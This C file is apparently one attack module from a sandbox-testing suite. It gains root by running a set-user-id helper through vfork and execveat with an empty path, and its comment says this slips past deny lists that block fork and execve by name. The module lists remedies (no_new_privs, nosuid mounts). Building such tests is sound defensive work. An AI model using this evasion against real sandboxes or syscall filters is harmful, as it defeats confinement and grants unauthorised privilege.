// SPDX-License-Identifier: MIT
/*
 * Goal:  privilege.
 * Means: vfork(2), then execveat(2) of a descriptor with an empty path. No name of a program occurs
 *        in the call, and lists that deny fork and execve often know neither of the two.
 */
#include "attacks/attack.h"

#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <sys/wait.h>
#include <unistd.h>

static enum claim run(const struct brief *b)
{
	char path[256], *argv[] = { "setuid", NULL };
	int helper, status;
	pid_t pid;

	snprintf(path, sizeof(path), "%s/setuid", b->helpers);
	attempting(b);
	helper = open(path, O_PATH | O_CLOEXEC);
	if (helper < 0)
		return denied(path);
	pid = vfork();
	if (!pid) {
		execveat(helper, "", argv, environ, AT_EMPTY_PATH);
		_exit(126);
	}
	if (pid < 0)
		return denied("vfork");
	waitpid(pid, &status, 0);
	errno = EACCES;
	return status ? denied("execveat") : CLAIM_DONE;
}

const struct attack attack = {
	.effect = "a child of the student's process becomes root",
	.means = "vfork(2) and execveat(2) of a descriptor of a set-user-id program",
	.oracle = "creds",
	.needs = NEED_IDS,
	.id = "SUID-08",
	.attack_id = "T1548.001, CWE-250, CWE-184",
	.remedy = "no_new_privs, which children inherit; nosuid mounts",
	.refs = (const char *const[]){ "execveat(2)", NULL },
	.run = run,
};
